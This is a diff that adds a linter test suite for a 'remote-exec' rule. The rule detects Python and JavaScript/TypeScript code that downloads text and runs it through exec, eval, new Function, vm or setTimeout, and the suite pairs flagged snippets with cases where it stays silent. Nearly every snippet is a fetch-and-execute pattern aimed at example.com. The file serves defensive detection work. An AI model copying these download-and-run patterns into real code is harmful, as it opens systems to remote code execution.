@@ -1,0 +1,491 @@
+/** Where remote-exec draws its lines: the ways of a download to where it runs, and what makes it harmless on the way. */
+
+import { checksOf } from '../kit/check.ts';
+
+const { python, javascript, typescript, tsx } = checksOf('remote-exec');
+
+describe('remote-exec', () => {
+  describe('in Python follows a download', () => {
+    it('from every client', () => {
+      python`
+        import urllib.request
+        import httpx
+        import requests
+        from urllib.request import urlopen
+        exec(requests.get("https://example.com/a.py").text)
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(requests.request("GET", "https://example.com/a.py").content)
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(requests.Session().get("https://example.com/a.py").text)
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(httpx.get("https://example.com/a.py").text)
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(httpx.Client().get("https://example.com/a.py").text)
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(urllib.request.urlopen("https://example.com/a.py").read())
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(urlopen("https://example.com/a.py").read().decode("utf-8"))
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('that is awaited', () => {
+      python`
+        import aiohttp
+        import httpx
+
+        async def load(url):
+            async with aiohttp.ClientSession() as session:
+                async with session.get(url) as response:
+                    exec(await response.text())
+                         ^^^^^^^^^^^^^^^^^^^^^ remote-exec
+            async with httpx.AsyncClient() as client:
+                answer = await client.get(url)
+                eval(answer.text)
+                     ^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('that a block opens', () => {
+      python`
+        import requests
+        from urllib.request import urlopen
+        with urlopen("https://example.com/a.py") as stream:
+            exec(stream.read())
+                 ^^^^^^^^^^^^^ remote-exec
+        with requests.Session() as session, session.get("https://example.com/a.py") as response:
+            exec(response.text)
+                 ^^^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('to everything that runs text', () => {
+      python`
+        import builtins
+        import requests
+        text = requests.get("https://example.com/a.py").text
+        exec(text)
+             ^^^^ remote-exec
+        eval(text)
+             ^^^^ remote-exec
+        exec(text, {})
+             ^^^^ remote-exec
+        exec(compile(text, "a.py", "exec"))
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        builtins.exec(text)
+                      ^^^^ remote-exec
+        __builtins__.eval(text)
+                          ^^^^ remote-exec
+        getattr(builtins, "exec")(text)
+                                  ^^^^ remote-exec
+        run = exec
+        run(text)
+            ^^^^ remote-exec
+        for part in map(eval, text.splitlines()):
+                              ^^^^^^^^^^^^^^^^^ remote-exec
+            print(part)
+      `;
+    });
+
+    it('through what only changes its form', () => {
+      python`
+        import base64
+        import json
+        import requests
+        answer = requests.get("https://example.com/a")
+        exec(answer.content.decode())
+             ^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(answer.text.strip())
+             ^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(answer.json()["code"])
+             ^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(json.loads(answer.text)["code"])
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(base64.b64decode(answer.content))
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec("import os\n" + answer.text)
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(f"x = {answer.text}")
+             ^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec("x = {}".format(answer.text))
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec("x = %s" % answer.text)
+             ^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec("\n".join(answer.text.splitlines()[1:]))
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(str(answer.content, "utf-8"))
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        exec(answer.text.replace("a", "b").lower() if answer.ok else "")
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('through containers', () => {
+      python`
+        import requests
+        parts = []
+        for chunk in requests.get("https://example.com/a.py", stream=True).iter_content(1024):
+            parts.append(chunk)
+        exec(b"".join(parts))
+             ^^^^^^^^^^^^^^^ remote-exec
+        table = {"source": requests.get("https://example.com/a.py").text, "name": "a"}
+        exec(table["source"])
+             ^^^^^^^^^^^^^^^ remote-exec
+        exec(table["name"])
+        first, second = requests.get("https://example.com/a.py").text, "x = 1"
+        exec(first)
+             ^^^^^ remote-exec
+        exec([requests.get(url).text for url in urls][0])
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        text = ""
+        for line in requests.get("https://example.com/a.py").iter_lines():
+            text += line
+        exec(text)
+             ^^^^ remote-exec
+      `;
+    });
+
+    it('through calls, returns and parameters', () => {
+      python`
+        import requests
+
+        def fetch(url):
+            answer = requests.get(url)
+            return answer.text
+
+        def run(code):
+            exec(code)
+                 ^^^^ remote-exec
+
+        def both(url):
+            run(fetch(url))
+
+        exec(fetch("https://example.com/a.py"))
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        identity = lambda it: it
+        eval(identity(requests.get("https://example.com/a.py").text))
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('through objects', () => {
+      python`
+        import requests
+
+        class Plugin:
+            def __init__(self, url):
+                self.session = requests.Session()
+                self.text = self.session.get(url).text
+
+            def source(self):
+                return self.text
+
+            def run(self):
+                exec(self.text)
+                     ^^^^^^^^^ remote-exec
+
+            def again(self):
+                exec(self.source())
+                     ^^^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('and shows the way', () => {
+      python`
+        import requests
+        answer = requests.get("https://example.com/a.py")
+        ~~~~~~ stored in \`answer\`
+                 ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ downloaded by \`requests.get\`
+        exec(answer.text)
+             ^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('but not past a new value', () => {
+      python`
+        import requests
+        text = requests.get("https://example.com/a.py").text
+        text = "x = 1"
+        exec(text)
+        text = requests.get("https://example.com/a.py").text
+        if known(text):
+            text = "x = 2"
+        else:
+            text = "x = 3"
+        exec(text)
+        text = requests.get("https://example.com/a.py").text
+        if quick:
+            text = "x = 4"
+        exec(text)
+             ^^^^ remote-exec
+      `;
+    });
+  });
+
+  describe('in Python is silent', () => {
+    it('when what runs is no longer text of the download', () => {
+      python`
+        import ast
+        import json
+        import requests
+        answer = requests.get("https://example.com/a")
+        eval(str(int(answer.text)))
+        eval(f"f({answer.text!r})")
+        eval("f(" + repr(answer.text) + ")")
+        eval("f(%d)" % len(answer.text))
+        eval("f(" + json.dumps(answer.json()) + ")")
+        value = ast.literal_eval(answer.text)
+        eval("f(" + str(float(answer.text)) + ")")
+        eval("f()" if answer.ok else "g()")
+        exec("x = 1" if answer.status_code == 200 else "x = 2")
+      `;
+    });
+
+    it('about functions and modules of the user’s own', () => {
+      python`
+        from . import requests
+        from .net import urlopen
+
+        def exec(text):
+            print(text)
+
+        exec(requests.get("https://example.com/a.py").text)
+        eval(urlopen("https://example.com/a.py").read())
+      `;
+      python`
+        import requests
+        model.eval(requests.get("https://example.com/a.py").text)
+        cursor.exec(requests.get("https://example.com/a.py").text)
+        import re
+        re.compile(requests.get("https://example.com/a.py").text)
+      `;
+    });
+
+    it('about text that is written here', () => {
+      python`
+        import requests
+        requests.get("https://example.com/a.py")
+        exec("x = 1")
+        NAME = "x"
+        exec(f"{NAME} = 1")
+      `;
+    });
+  });
+
+  describe('in JavaScript and TypeScript follows a download', () => {
+    it('to everything that runs text', () => {
+      typescript`
+        import vm from 'node:vm';
+        const text = await (await fetch('https://example.com/a.js')).text();
+        eval(text);
+             ^^^^ remote-exec
+        (0, eval)(text);
+                  ^^^^ remote-exec
+        globalThis.eval(text);
+                        ^^^^ remote-exec
+        window['eval'](text);
+                       ^^^^ remote-exec
+        new Function(text)();
+                     ^^^^ remote-exec
+        Function('a', 'b', text)(1, 2);
+                           ^^^^ remote-exec
+        vm.runInNewContext(text, {});
+                           ^^^^ remote-exec
+        new vm.Script(text).runInThisContext();
+                      ^^^^ remote-exec
+        vm.compileFunction(text);
+                           ^^^^ remote-exec
+        setTimeout(text, 10);
+                   ^^^^ remote-exec
+        const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;
+        await new AsyncFunction(text)();
+                                ^^^^ remote-exec
+        const run = eval;
+        run(text);
+            ^^^^ remote-exec
+      `;
+    });
+
+    it('from every client', () => {
+      typescript`
+        import axios, { get } from 'axios';
+        import got from 'got';
+        import { request } from 'undici';
+        import nodeFetch from 'node-fetch';
+        eval((await axios.get('https://example.com/a.js')).data);
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        eval((await axios('https://example.com/a.js')).data);
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        eval((await axios.create().get('https://example.com/a.js')).data);
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        eval(await got('https://example.com/a.js').text());
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        eval((await got.get('https://example.com/a.js')).body);
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        const { body } = await request('https://example.com/a.js');
+        eval(await body.text());
+             ^^^^^^^^^^^^^^^^^ remote-exec
+        eval(await (await nodeFetch('https://example.com/a.js')).text());
+             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('through promise chains', () => {
+      javascript`
+        fetch('https://example.com/a.js').then((response) => response.text()).then(eval);
+        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        fetch('https://example.com/b.js').then((response) => response.text()).then((code) => eval(code));
+                                                                                                  ^^^^ remote-exec
+        fetch('https://example.com/c.js')
+          .then(function (response) {
+            return response.json();
+          })
+          .then(({ code, name }) => {
+            console.log(name);
+            return new Function(code);
+                                ^^^^ remote-exec
+          })
+          .catch(console.error);
+        Promise.all([fetch('https://example.com/d.js'), fetch('https://example.com/e.js')])
+          .then((all) => Promise.all(all.map((it) => it.text())))
+          .then(([first, second]) => eval(first + second));
+                                          ^^^^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('through callbacks', () => {
+      javascript`
+        const https = require('https');
+        https.get('https://example.com/a.js', (response) => {
+          let body = '';
+          response.on('data', (chunk) => {
+            body += chunk;
+          });
+          response.on('end', () => {
+            eval(body);
+                 ^^^^ remote-exec
+          });
+        });
+        https.get('https://example.com/b.js', (response) => {
+          const chunks = [];
+          response.on('data', (chunk) => chunks.push(chunk));
+          response.on('end', () => eval(Buffer.concat(chunks).toString()));
+                                        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        });
+        const request = new XMLHttpRequest();
+        request.onload = () => eval(request.responseText);
+                                    ^^^^^^^^^^^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('through containers, patterns and templates', () => {
+      typescript`
+        const { code, name = 'x' } = await (await fetch('https://example.com/a.json')).json();
+        eval(code);
+             ^^^^ remote-exec
+        const plugins = { first: code, second: '1 + 1' };
+        eval(plugins.first);
+             ^^^^^^^^^^^^^ remote-exec
+        eval(plugins.second);
+        const [head, ...rest] = [code, code];
+        eval(head);
+             ^^^^ remote-exec
+        eval(rest.join(';'));
+             ^^^^^^^^^^^^^^ remote-exec
+        eval(\`(() => { \${code} })()\`);
+             ^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        eval('with (x) {' + code + '}');
+             ^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        for (const it of [code]) eval(it);
+                                      ^^ remote-exec
+        [code].forEach((it) => eval(it));
+                                    ^^ remote-exec
+        const copy = { ...plugins };
+        new Function(copy.first)();
+                     ^^^^^^^^^^ remote-exec
+      `;
+    });
+
+    it('through functions and classes', () => {
+      typescript`
+        async function download(url: string): Promise<string> {
+          const response = await fetch(url);
+          return response.text();
+        }
+        const run = (code: string) => eval(code);
+                                           ^^^^ remote-exec
+        run(await download('https://example.com/a.js'));
+
+        class Loader {
+          #client = axios.create();
+          constructor(private readonly base: string) {}
+          async source(name: string) {
+            return (await this.#client.get(this.base + name)).data;
+          }
+          async load(name: string) {
+            return new Function(await this.source(name));
+                                ^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+          }
+        }
+      `;
+    });
+
+    it('between markup', () => {
+      tsx`
+        import { useEffect } from 'react';
+        export function Widget({ url }: { url: string }) {
+          useEffect(() => {
+            fetch(url)
+              .then((response) => response.text())
+              .then((code) => eval(code));
+                                   ^^^^ remote-exec
+          }, [url]);
+          return <button onClick={async () => eval(await (await fetch(url)).text())}>run</button>;
+                                                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ remote-exec
+        }
+      `;
+    });
+  });
+
+  describe('in JavaScript and TypeScript is silent', () => {
+    it('when what runs is no longer text of the download', () => {
+      typescript`
+        const answer = await (await fetch('https://example.com/a.json')).json();
+        eval('f(' + JSON.stringify(answer) + ')');
+        eval('f(' + Number(answer.count) + ')');
+        eval('f(' + parseInt(answer.count, 10) + ')');
+        setTimeout(() => show(answer), 10);
+        setTimeout(show, 10, answer);
+        new Map([[answer, 1]]);
+        eval(answer.ok ? 'f()' : 'g()');
+      `;
+    });
+
+    it('about functions of the user’s own', () => {
+      typescript`
+        import { fetch } from './cache';
+        import vm from './view-model';
+        function eval2(text: string) {
+          return text;
+        }
+        eval2(await (await globalThis.fetch('https://example.com/a.js')).text());
+        eval(await fetch('a'));
+        vm.runInNewContext(await (await globalThis.fetch('https://example.com/a.js')).text());
+      `;
+    });
+
+    it('about scopes that hide a name', () => {
+      typescript`
+        const code = await (await fetch('https://example.com/a.js')).text();
+        {
+          const code = '1 + 1';
+          eval(code);
+        }
+        function run(code = '2 + 2') {
+          return code;
+        }
+        eval(run());
+      `;
+    });
+  });
+});
